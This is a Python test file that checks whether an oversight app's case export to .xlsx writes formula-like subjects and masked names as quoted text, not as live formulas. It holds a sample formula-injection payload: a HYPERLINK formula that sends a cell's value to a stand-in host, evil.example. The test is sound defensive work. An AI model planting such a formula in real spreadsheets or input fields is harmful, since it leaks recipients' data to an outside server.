"""Exported text that looks like a formula stays text (no formula injection into .xlsx)."""

import io
import zipfile

import openpyxl
import pytest

from minxin.oversight.tests.conftest import person

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&K2,"点击查看")'


def test_case_export_writes_a_formula_like_subject_and_masked_name_as_text(client, city, flow):
    case = flow.register(subject=ATTACK, petitioners=[person(name="=2+3")])
    assert case.parties.get().petitioner.name_masked.startswith("=")
    client.force_login(city.staff["east_registrar"].user)
    content = client.get("/oversight/export/cases.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    row = next(r for r in ws.iter_rows() if r[0].value == case.number)
    subject, name = row[1], row[10]
    assert (subject.value, subject.data_type, subject.quotePrefix) == (ATTACK, "s", True)
    assert (name.value, name.data_type, name.quotePrefix) == (case.parties.get().petitioner.name_masked, "s", True)
